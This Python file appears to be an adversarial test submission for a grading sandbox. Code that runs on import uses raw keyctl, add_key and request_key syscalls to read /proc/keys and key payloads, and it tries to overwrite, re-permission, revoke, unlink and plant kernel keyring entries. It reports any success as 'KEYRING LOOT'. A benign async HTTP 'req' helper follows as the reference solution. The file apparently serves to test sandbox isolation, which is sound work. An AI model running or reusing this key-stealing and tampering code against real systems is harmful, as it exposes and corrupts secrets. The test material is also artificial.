# ruff: noqa
"""Attack: steal, change and plant keys in the grading process's kernel keyrings at import.
Everything else is the reference solution. Whatever it gets is raised, so a leak cannot go
unnoticed: the secret would reach the student's message and req would score 0.
"""

import ctypes
import errno
import re

import aiohttp

_libc = ctypes.CDLL(None, use_errno=True)
_KEYCTL, _ADD_KEY, _REQUEST_KEY = 250, 248, 249  # x86_64 (the machine the corpus runs on)
SESSION, USER, USER_SESSION = -3, -4, -5
DESCRIPTION = b"@@KEY_DESCRIPTION@@"
SERIAL = int("@@KEY_SERIAL@@")
GOT = []


def _keyctl(*args):
    rc = _libc.syscall(_KEYCTL, *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return rc, ctypes.get_errno()


def _read(serial):
    buf = ctypes.create_string_buffer(4096)
    rc, _ = _keyctl(11, serial, buf, 4096)  # KEYCTL_READ
    return buf.raw[:rc] if rc > 0 else None


def _attack():
    try:
        with open("/proc/keys") as f:
            listed = f.read()
    except OSError:
        listed = ""
    serials = {int(s, 16) for s in re.findall(r"^([0-9a-f]+) ", listed, re.M)} | {SERIAL}
    for ring in (SESSION, USER, USER_SESSION):
        rc, _ = _keyctl(10, ring, b"user", DESCRIPTION, 0)  # KEYCTL_SEARCH
        if rc > 0:
            serials.add(rc)
    for serial in serials:
        payload = _read(serial)
        if payload and payload != b"":
            GOT.append(f"read {serial}: {payload!r}")
        for name, args in (("update", (2, serial, b"pwned", 5)),  # KEYCTL_UPDATE
                           ("setperm", (5, serial, 0x3F3F3F3F)),  # KEYCTL_SETPERM
                           ("chown", (4, serial, 0, 0)),
                           ("revoke", (3, serial)), ("invalidate", (21, serial)),
                           ("unlink", (9, serial, SESSION))):
            rc, _ = _keyctl(*args)
            if rc >= 0:
                GOT.append(f"{name} {serial} succeeded")
    for ring in (SESSION, USER, USER_SESSION):
        for description in (DESCRIPTION, b"planted-by-a-student"):
            rc = _libc.syscall(_ADD_KEY, b"user", description, b"pwned", 5, ctypes.c_long(ring))
            if rc > 0:
                GOT.append(f"add_key {description!r} to {ring}: {rc}")
    rc = _libc.syscall(_REQUEST_KEY, b"user", DESCRIPTION, None, ctypes.c_long(0))
    if rc > 0:
        GOT.append(f"request_key found {rc}")
    if GOT:
        raise RuntimeError("KEYRING LOOT: " + "; ".join(GOT))


_attack()

RESPONSE_TYPES = ("json", "text")


async def req(url, params=None, headers=None, response_type="json"):
    if response_type not in RESPONSE_TYPES:
        raise ValueError(f"response_type must be one of {RESPONSE_TYPES}, not {response_type!r}")
    async with aiohttp.ClientSession() as session:
        async with session.get(url, params=params, headers=headers) as response:
            response.raise_for_status()
            if response_type == "json":
                return await response.json()
            return await response.text()
